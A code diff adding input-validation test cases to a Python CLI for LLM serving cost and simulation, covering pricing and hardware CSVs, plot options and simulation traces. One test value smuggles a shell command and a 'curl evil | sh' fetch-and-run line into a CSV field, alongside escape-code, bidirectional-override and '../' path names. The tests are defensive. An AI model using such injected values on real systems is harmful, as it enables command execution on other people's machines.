@@ -24,6 +24,7 @@ OFFERS_CSV = REPO / "pricing" / "offers.csv"
 ENERGY_CSV = REPO / "pricing" / "energy.csv"
 CALIBRATION_CSV = REPO / "optimizer" / "serving" / "calibration.csv"
 MEASURED_CSV = REPO / "tests" / "data" / "measured.csv"
+KV_CSV = REPO / "tests" / "data" / "kv_capacity.csv"
 CONFIG_JSON = REPO / "models" / "configs" / "llama-3.1-8b.json"
 
 BASE: dict[str, Any] = {
@@ -247,6 +248,18 @@ def _tables() -> list[Case]:
                               ("price-text", "p5,H100,8,ten,,us", "not a number")):
         cases.append(Case(f"skypilot-{name}", ["--pricing", "aws={d}/vms.csv", "prices", *JSON_OUT], 2, needle,
                           {"vms.csv": (sky + row + "\n").encode()}))
+    names = [("pricing", OFFERS_CSV, "instance", "p5'; touch pwned; echo '\nsetup: curl evil | sh"),
+             ("pricing", OFFERS_CSV, "provider", "aws\x1b[2J"), ("pricing", OFFERS_CSV, "region", "us\u202eeast"),
+             ("hardware", GPUS_CSV, "id", "h100\x1b[31m"), ("hardware", GPUS_CSV, "vendor", "x" * 300)]
+    for option, table, column, value in names:  # identifiers reach terminals, launch files and file names
+        cmd = "prices" if option == "pricing" else "gpus"
+        cases.append(Case(f"{option}-{column}-hostile-name", [f"--{option}", "{d}/t.csv", cmd, *JSON_OUT], 2,
+                          f"column '{column}': Value error, must be printable",
+                          {"t.csv": _csv_with(table, column, value)}))
+    for name in ("\x1b[31maws", "../evil", "a b"):
+        cases.append(Case(f"skypilot-provider-{name.encode().hex()}", ["--pricing", name + "={d}/vms.csv", "prices",
+                                                                      *JSON_OUT], 2, "a provider name is",
+                          {"vms.csv": (sky + "p5,H100,8,10,5,us\n").encode()}))
     cases.append(Case("pricing-duplicate-offer-other-price", ["--pricing", "{d}/o.csv", "prices", *JSON_OUT], 2,
                       "with a different price", {"o.csv": "\n".join([*lines[:2], twice, *lines[2:]]).encode() + b"\n"}))
     cal_cells = [("eta_mem", "nan"), ("eta_mem", "inf"), ("t_fixed_ms", "1e308"), ("mem_util", "true"),
@@ -262,6 +275,7 @@ def _tables() -> list[Case]:
         "huge-field": (b"id,name\n" + b"x" * 200_000 + b",y\n", "not a readable CSV"),
         "nul": (b"id,name\n\x00\n", "NUL"),
         "too-many-rows": (b"id,name\n" + b"x\n" * 200_001, "rows"),
+        "column-twice": (b"id,name,id\nx,y,z\n", "column 'id' given twice"),
     }
     for option, cmd in (("--hardware", "gpus"), ("--pricing", "prices"), ("--reserved", "prices"),
                         ("--ownership", "prices"), ("--energy", "prices")):
@@ -379,6 +393,10 @@ def _options() -> list[Case]:
         ("fit-overhead-inf", ["fit", "--model", "llama-3.1-8b", "--overhead-fraction", "inf"], "--overhead-fraction"),
         ("fit-model-dev-zero", ["fit", "--model", "/dev/zero"], "not a regular file"),
         ("fit-plot-dev-null", ["fit", "--model", "llama-3.1-8b", "--plot", "/dev/null"], "not a regular file"),
+        ("fit-plot-not-png", ["fit", "--model", "llama-3.1-8b", "--plot", "heat.txt"], "writes a PNG image"),
+        ("sweep-plot-not-png", ["sweep", w, "--vary", "rate_rps=1", "--plot", "s.jpg"], "writes a PNG image"),
+        ("procure-plot-not-png", ["procure", w, "--plot", "p"], "writes a PNG image"),
+        ("simulate-plot-dev-null", [*SIM, "--rate", "1", "--plot", "/dev/null"], "not a regular file"),
         ("unknown-command", ["frobnicate"], "No such command"),
         ("unknown-option", ["models", "--colour"], "No such option"),
     ]
@@ -403,6 +421,72 @@ def _measurements() -> list[Case]:
         Case("calibrate-output-dev-null", ["calibrate", str(MEASURED_CSV), "-o", "/dev/null"], 2,
              "not a regular file"),
     ]
+    lines = MEASURED_CSV.read_text(encoding="utf-8").splitlines()
+    typo = "\n".join([lines[0].replace(",percentile,", ",percentil,"), *lines[1:3]]).encode() + b"\n"
+    kv_lines = KV_CSV.read_text(encoding="utf-8").splitlines()
+    cases += [  # a misspelt optional column was ignored: the rows read as means, at the default settings
+        Case("validate-misspelt-column", ["validate", "{d}/m.csv", *JSON_OUT], 2, "unknown column 'percentil'",
+             {"m.csv": typo}),
+        Case("calibrate-misspelt-column", ["calibrate", "{d}/m.csv", "-o", "{d}/cal.csv"], 2,
+             "unknown column 'percentil'", {"m.csv": typo}),
+        Case("validate-kv-misspelt-column", ["validate-kv", "{d}/k.csv", *JSON_OUT], 2, "unknown column 'mem_frac'",
+             {"k.csv": "\n".join([kv_lines[0].replace("mem_fraction", "mem_frac"), kv_lines[1]]).encode()}),
+        Case("validate-kv-header-only", ["validate-kv", "{d}/k.csv", *JSON_OUT], 2, "no rows",
+             {"k.csv": kv_lines[0].encode() + b"\n"}),
+    ]
+    return cases
+
+
+SIM = ["simulate", "--model", "llama-3.1-8b", "--gpu", "h100-sxm", "--input", "200", "--output", "50"]
+TRACE = "arrival_s,input_tokens,output_tokens\n" + "".join(f"{i / 10},100,20\n" for i in range(20))
+HISTOGRAM = "input_tokens,output_tokens,probability\n100,20,0.5\n200,40,0.5\n"
+
+
+def _simulate() -> list[Case]:
+    """simulate: its options, and the trace and length-histogram CSVs it reads."""
+    run = [*SIM, "--rate", "5", "--requests", "20"]
+    options = {  # option values that once ran (or crashed in numpy) instead of being refused
+        "rate-inf": (["--rate", "inf"], "--rate"), "rate-1e308": (["--rate", "1e308"], "--rate"),
+        "rate-too-low": (["--rate", "1e-300", "--requests", "20"], "beyond"),
+        "seed-negative": (["--rate", "1", "--seed", "-1"], "--seed"),
+        "max-num-seqs-zero": (["--rate", "1", "--max-num-seqs", "0"], "--max-num-seqs"),
+        "max-batched-tokens-zero": (["--rate", "1", "--max-batched-tokens", "0"], "--max-batched-tokens"),
+        "max-batched-tokens-huge": (["--rate", "1", "--max-batched-tokens", str(10**15)], "--max-batched-tokens"),
+        "tp-zero": (["--rate", "1", "--tp", "0"], "--tp"), "input-huge": (["--rate", "1", "--input", str(10**20)],
+                                                                      "--input"),
+        "range-ratio-nan": (["--rate", "1", "--input-range-ratio", "nan"], "--input-range-ratio"),
+        "concurrency-huge": (["--concurrency", str(10**12)], "--concurrency"),
+        "requests-huge": (["--rate", "1", "--requests", str(10**12)], "--requests"),
+    }
+    cases = [Case(f"simulate-{name}", [*SIM, *argv, *JSON_OUT], 2, needle) for name, (argv, needle) in options.items()]
+    traces = {
+        "utf16": (TRACE.encode("utf-16"), "UTF-16"), "latin1": (b"arrival_s,note\n0,caf\xe9\n", "not UTF-8"),
+        "binary": (bytes(range(256)), "not UTF-8"), "huge-field": (b"arrival_s\n" + b"1" * 300_000 + b"\n",
+                                                                   "not a readable CSV"),
+        "arrival-1e308": (TRACE.replace("1.9,100", "1e308,100").encode(), "beyond"),
+        "tokens-huge": (TRACE.replace("0.0,100", f"0.0,{10**20}").encode(), "input_tokens"),
+        "longer-row": (b"arrival_s,input_tokens\n0,10,20,30\n", "more cells than header"),
+        "column-twice": (b"arrival_s,arrival_s\n0,1\n1,0\n", "given twice"),
+        "unsorted": (TRACE.replace("0.5,100", "0.05,100").encode(), "sorted"),
+        "header-only": (b"arrival_s\n", "no rows"),
+    }
+    for name, (content, needle) in traces.items():
+        cases.append(Case(f"simulate-trace-{name}", [*SIM, "--trace", "{d}/t.csv", *JSON_OUT], 2, needle,
+                          {"t.csv": content}))
+    for argv, path, cmd in ((SIM, "/dev/zero", "trace"), (run, "{d}/fifo", "lengths")):
+        cases.append(Case(f"simulate-{cmd}-{Path(path).name}", [*argv, f"--{cmd}", path, *JSON_OUT], 2,
+                          "not a regular file", setup=lambda d: __import__("os").mkfifo(d / "fifo")))
+    histograms = {"utf16": (HISTOGRAM.encode("utf-16"), "UTF-16"),
+                  "sum-0.9": (HISTOGRAM.replace("0.5\n200", "0.4\n200").encode(), "sum to"),
+                  "column-twice": (HISTOGRAM.replace("probability", "probability,probability").encode(), "twice")}
+    for name, (content, needle) in histograms.items():
+        cases.append(Case(f"simulate-lengths-{name}", [*run, "--lengths", "{d}/l.csv", *JSON_OUT], 2, needle,
+                          {"l.csv": content}))
+    bom = b"\xef\xbb\xbf"
+    cases += [Case("simulate-trace-bom-accepted", [*SIM, "--trace", "{d}/t.csv", *JSON_OUT], 0, "",
+                   {"t.csv": bom + TRACE.replace("\n", "\r\n").encode()}, outputs=("out.json",)),
+              Case("simulate-lengths-bom-accepted", [*run, "--lengths", "{d}/l.csv", *JSON_OUT], 0, "",
+                   {"l.csv": bom + HISTOGRAM.encode()}, outputs=("out.json",))]
     return cases
 
 
@@ -443,4 +527,5 @@ def cases() -> list[Case]:
             [Case(f"plan-{name}", ["plan", "{d}/w.yaml", *JSON_OUT], 2, needle, {"w.yaml": content})]
     for name, content, needle in BAD_FILES:
         out += _workload_commands(name, content, needle)[:2]
-    return [*out, *_paths(), *_profile_csvs(), *_tables(), *_configs(), *_options(), *_measurements(), *_targets()]
+    return [*out, *_paths(), *_profile_csvs(), *_tables(), *_configs(), *_options(), *_measurements(), *_targets(),
+            *_simulate()]
